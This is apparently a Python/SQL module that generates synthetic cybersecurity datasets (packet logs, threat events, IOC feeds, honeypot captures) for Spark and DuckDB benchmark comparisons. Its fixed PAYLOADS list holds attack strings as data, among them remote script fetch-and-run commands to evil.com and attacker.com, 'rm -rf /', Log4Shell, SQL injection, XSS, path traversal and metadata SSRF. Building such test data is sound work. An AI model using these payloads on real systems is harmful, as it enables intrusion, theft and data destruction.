"""Adapter views over the driver tables.

Each view is one SQL template with engine fragments (``[S]``, ``[US]`` ...)
rendered for Spark or DuckDB, so the Spark job and its DuckDB oracle read the
same rows. Base tables are referenced as ``{events}`` / ``{nation}``: Spark
binds them as DataFrame arguments of ``spark.sql``; DuckDB uses its views.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql import types as T

from ..session import spread, table_path

FRAGMENTS = {
    "spark": {
        "S": "STRING",
        "NTZ": "CAST(ts AS TIMESTAMP)",
        "US": "unix_micros(CAST(ts AS TIMESTAMP))",
        "DIV": "div",
        "PORT": "element_at(array(80, 443, 22, 3389, 143, 2144, 4343, 8080, 53, 3306, 5432, 25, 110, 993, 995), "
                "CAST(event_id % (user_id % 15 + 1) + 1 AS INT))",
        "ISO": "date_format(ts,'yyyy-MM-dd HH:mm:ss')",
        "ISOT": "date_format(ts,\"yyyy-MM-dd'T'HH:mm:ss\")",
        "DMY": "date_format(ts,'dd/MM/yyyy HH:mm:ss')",
        "MDY": "date_format(ts,'MM/dd/yyyy HH:mm:ss')",
        "FRAC": "date_format(ts,'yyyy-MM-dd HH:mm:ss.SSSSSS')",
        "EVEN_NATIONS": "explode(sequence(0, 24, 2))",
    },
    "duckdb": {
        "S": "VARCHAR",
        "NTZ": "ts",
        "US": "epoch_us(ts)",
        "DIV": "//",
        "PORT": "([80, 443, 22, 3389, 143, 2144, 4343, 8080, 53, 3306, 5432, 25, 110, 993, 995])"
                "[event_id % (user_id % 15 + 1) + 1]",
        "ISO": "strftime(ts,'%Y-%m-%d %H:%M:%S')",
        "ISOT": "strftime(ts,'%Y-%m-%dT%H:%M:%S')",
        "DMY": "strftime(ts,'%d/%m/%Y %H:%M:%S')",
        "MDY": "strftime(ts,'%m/%d/%Y %H:%M:%S')",
        "FRAC": "strftime(ts,'%Y-%m-%d %H:%M:%S.%f')",
        "EVEN_NATIONS": "unnest(range(0, 25, 2))",
    },
}

_SRC_IP = ("concat(CASE user_id % 3 WHEN 0 THEN '10.0.' WHEN 1 THEN '172.16.' ELSE '45.33.' END, "
           "CAST(user_id [DIV] 250 AS [S]), '.', CAST(user_id % 250 + 1 AS [S]))")
_TS_US = "1704067200000000 + ([US] - 1704067200000000) [DIV] 720"

VIEWS = {
    "net_packets": f"""
SELECT event_id AS packet_id, [NTZ] AS wall_ts,
  {_TS_US} AS ts_us,
  {_SRC_IP} AS src_ip,
  1024 + (event_id * 7919) % 64512 AS src_port, '192.168.1.10' AS dst_ip,
  [PORT] AS dst_port, 'TCP' AS protocol,
  40 + CAST(floor(value * 4) AS BIGINT) AS packet_size,
  CASE event_type WHEN 'signup' THEN 2 WHEN 'view' THEN 16 WHEN 'click' THEN 24
       WHEN 'purchase' THEN 17 ELSE 4 END AS tcp_flags,
  64 - user_id % 5 AS ttl, 8192 AS window_size,
  CASE WHEN event_id % 4 = 0 THEN (event_id [DIV] 4) % 31 ELSE 30 END AS payload_id
FROM {{events}}""",
    "threat_events": f"""
SELECT concat('EVT-', lpad(CAST(event_id AS [S]), 9, '0')) AS event_id,
  [NTZ] AS timestamp, [US] / 1000000.0e0 AS timestamp_epoch,
  {_TS_US} AS ts_us,
  {_SRC_IP} AS source_ip,
  '192.168.1.10' AS destination_ip, [PORT] AS destination_port, 'TCP' AS protocol,
  CASE event_type WHEN 'signup' THEN 'DPI Security Rule' WHEN 'view' THEN 'Heuristic Check'
       WHEN 'click' THEN 'Machine Learning (Random Forest)'
       WHEN 'purchase' THEN 'GenAI Threat Intel' ELSE 'UEBA Predictive Engine' END AS detection_method,
  CASE WHEN value > 100 THEN 100.0 ELSE value END AS confidence,
  CASE event_id % 5 WHEN 0 THEN 9.8e0 WHEN 1 THEN 8.0e0 WHEN 2 THEN 6.5e0 WHEN 3 THEN 5.5e0 ELSE 0.0e0 END AS severity,
  CASE event_id % 6 WHEN 0 THEN 'Discovery' WHEN 1 THEN 'Execution' WHEN 2 THEN 'Initial Access'
       WHEN 3 THEN 'Command and Control' WHEN 4 THEN 'Impact' ELSE 'Unknown' END AS mitre_tactic,
  CASE WHEN event_id % 5 = 4 THEN 0 ELSE 1 END AS label
FROM {{events}}""",
    "raw_event_log": f"""
WITH base AS (SELECT event_id AS row_id,
  CASE event_id % 6 WHEN 0 THEN [ISO] WHEN 1 THEN [ISOT] WHEN 2 THEN [DMY]
       WHEN 3 THEN [MDY] WHEN 4 THEN [FRAC] ELSE 'N/A' END AS Timestamp,
  CASE WHEN event_id % 50 = 49 THEN concat('EVT-', CAST(event_id - 1 AS [S]))
       WHEN event_id % 41 = 0 THEN '' ELSE concat('EVT-', CAST(event_id AS [S])) END AS Event_ID,
  CASE event_id % 7 WHEN 0 THEN 'null' WHEN 1 THEN '300.1.1.1' ELSE {_SRC_IP} END AS Source_IP,
  CASE event_id % 5 WHEN 0 THEN '80' WHEN 1 THEN '70000' WHEN 2 THEN '-5' WHEN 3 THEN 'abc' ELSE '443.0' END AS Destination_Port,
  CASE event_id % 5 WHEN 0 THEN 'tcp' WHEN 1 THEN ' TCP ' WHEN 2 THEN 'Udp' WHEN 3 THEN 'n/a' ELSE 'GRE' END AS Protocol,
  CASE event_id % 4 WHEN 0 THEN concat(CAST(event_id % 90 AS [S]), '%') WHEN 1 THEN '150' WHEN 2 THEN '-' ELSE 'bad' END AS AI_Confidence,
  CASE event_id % 3 WHEN 0 THEN 'YES' WHEN 1 THEN '0' ELSE 'undefined' END AS Base64_Detected,
  CASE event_id % 4 WHEN 0 THEN '1' WHEN 1 THEN 'true' WHEN 2 THEN '7' ELSE '' END AS Label,
  CASE event_id % 3 WHEN 0 THEN '12s' WHEN 1 THEN '3.14159' ELSE '42' END AS Duration,
  CASE event_type WHEN 'signup' THEN 'DPI Security Rule' WHEN 'purchase' THEN 'GenAI Threat Intel' ELSE 'Heuristic Check' END AS Detection_Method
FROM {{events}})
SELECT * FROM base UNION ALL SELECT * FROM base WHERE row_id % 97 = 0""",
    "ioc_feed": f"""
SELECT DISTINCT concat(' ', {_SRC_IP}) AS line FROM {{events}} WHERE user_id % 17 = 0
UNION ALL SELECT '# comment' AS line UNION ALL SELECT '' AS line""",
    "vendor_raw": f"""
SELECT DISTINCT {_SRC_IP} AS ip,
  CASE WHEN user_id % 2 = 0 THEN (user_id * 37) % 101 END AS abuse_score,
  CASE WHEN user_id % 2 = 0 THEN user_id % 6 END AS abuse_reports,
  CASE WHEN user_id % 3 <> 0 THEN (user_id * 13) % 20 END AS vt_malicious,
  CASE WHEN user_id % 3 <> 0 THEN 90 END AS vt_total,
  CASE WHEN user_id % 5 <> 0 THEN CASE user_id % 4 WHEN 0 THEN 'malicious' ELSE 'unknown' END END AS gn_class,
  CASE WHEN user_id % 5 <> 0 THEN user_id % 4 = 1 END AS gn_noise,
  CASE WHEN user_id % 5 <> 0 THEN user_id % 4 = 2 END AS gn_riot
FROM {{events}}""",
    # Geo ranges: every /16 block in use gets a 10-address range per even nation key.
    "geo_ranges": """
WITH blocks AS (SELECT DISTINCT user_id [DIV] 250 AS q FROM {events}),
slots AS (SELECT q, [EVEN_NATIONS] AS nk FROM blocks)
SELECT 757137408 + s.q * 256 + n.n_nationkey * 10 + 1 AS ip_lo,
  757137408 + s.q * 256 + n.n_nationkey * 10 + 10 AS ip_hi,
  n.n_name AS country, concat('City_', CAST(n.n_nationkey AS [S])) AS city,
  -60.0e0 + n.n_nationkey * 5 AS lat, -120.0e0 + n.n_nationkey * 10 AS lon
FROM slots s JOIN {nation} n ON n.n_nationkey = s.nk""",
    "honeypot_captures": f"""
SELECT event_id AS capture_id, [NTZ] AS ts, {_SRC_IP} AS client_ip,
  1024 + (event_id * 31) % 64512 AS client_port,
  CASE event_id % 3 WHEN 0 THEN 2222 WHEN 1 THEN 2121 ELSE 8080 END AS port,
  CASE WHEN event_id % 9 = 0 THEN '' ELSE props END AS payload_text
FROM {{events}} WHERE event_type = 'error'""",
}

# FIXED VALUES: payload pool joined to packets by payload_id (30 = empty payload)
PAYLOADS = [
    "cat /etc/passwd",
    "' OR 1=1 --",
    "UNION SELECT username, password FROM users --",
    "<script>document.cookie</script>",
    "<img onerror=alert(1) src=x>",
    "cmd.exe /c whoami",
    "/bin/sh -c 'wget http://evil.com/shell.sh'",
    "system('rm -rf /')",
    "eval(base64_decode('bWFsaWNpb3Vz'))",
    "../../etc/shadow",
    "..\\..\\windows\\system32\\config\\SAM",
    "javascript:alert(document.domain)",
    "SELECT * FROM information_schema.tables",
    "curl http://attacker.com/backdoor.sh | bash",
    "chmod 777 /tmp/exploit",
    "DROP TABLE users;",
    "boot.ini",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "Y2F0IC9ldGMvcGFzc3dk",
    "PHNjcmlwdD5hbGVydCgxKTs8L3NjcmlwdD4=",
    "${jndi:ldap://evil.com/a}",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    '{"username": {"$gt": ""}}',
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    "eval(base64_decode('Q1JJU0lT'))",
    "normal status update",
    "GET /index.html HTTP/1.1",
    "POST /api/login HTTP/1.1",
    "heartbeat ping",
    "",
]

BASE_TABLES = {"net_packets": ["events"], "threat_events": ["events"], "raw_event_log": ["events"],
               "ioc_feed": ["events"], "vendor_raw": ["events"], "geo_ranges": ["events", "nation"],
               "honeypot_captures": ["events"]}


def render(view: str, engine: str) -> str:
    sql = VIEWS[view]
    for token, text in FRAGMENTS[engine].items():
        sql = sql.replace(f"[{token}]", text)
    if engine == "duckdb":
        sql = sql.replace("{events}", "events").replace("{nation}", "nation")
    return sql


def view(spark: SparkSession, sf_dir: str, name: str, spread_by: str | None = None) -> DataFrame:
    """Spark DataFrame of an adapter view, read from the parquet tables in ``sf_dir``.

    ``spread_by``: column of the event table by which its rows are dealt out first, for a view whose columns cost much."""
    if name == "payloads":
        return payload_pool(spark)
    args = {t: spark.read.parquet(table_path(sf_dir, t)) for t in BASE_TABLES[name]}
    if spread_by:
        args["events"] = spread(args["events"], spread_by)
    return spark.sql(render(name, "spark"), **args)


def constant_table(spark: SparkSession, rows: list[tuple], schema: T.StructType) -> DataFrame:
    """A small fixed table built JVM-side (literal structs, no Python round trip per execution)."""
    def lit(v, dt):
        if isinstance(dt, T.ArrayType):
            return F.array(*[F.lit(x) for x in v]).cast(dt) if v else F.array().cast(dt)
        return F.lit(v).cast(dt)
    structs = [F.struct(*[lit(v, f.dataType).alias(f.name) for v, f in zip(r, schema.fields)]) for r in rows]
    return spark.range(1).select(F.inline(F.array(*structs)))


def payload_pool(spark: SparkSession) -> DataFrame:
    schema = T.StructType([T.StructField("payload_id", T.LongType(), False),
                           T.StructField("payload_text", T.StringType(), False)])
    df = constant_table(spark, list(enumerate(PAYLOADS)), schema)
    return df.withColumn("payload", F.encode("payload_text", "UTF-8"))


def duck_payloads_sql() -> str:
    rows = ", ".join("({}, '{}')".format(i, t.replace("'", "''")) for i, t in enumerate(PAYLOADS))
    return f"SELECT CAST(col0 AS BIGINT) AS payload_id, col1 AS payload_text FROM (VALUES {rows})"


def duck_with(*names: str) -> str:
    """``WITH`` clause defining the named adapter views for a DuckDB oracle query."""
    parts = []
    for n in names:
        body = duck_payloads_sql() if n == "payloads" else render(n, "duckdb")
        parts.append(f"{n} AS ({body})")
    return "WITH " + ",\n".join(parts) + "\n"
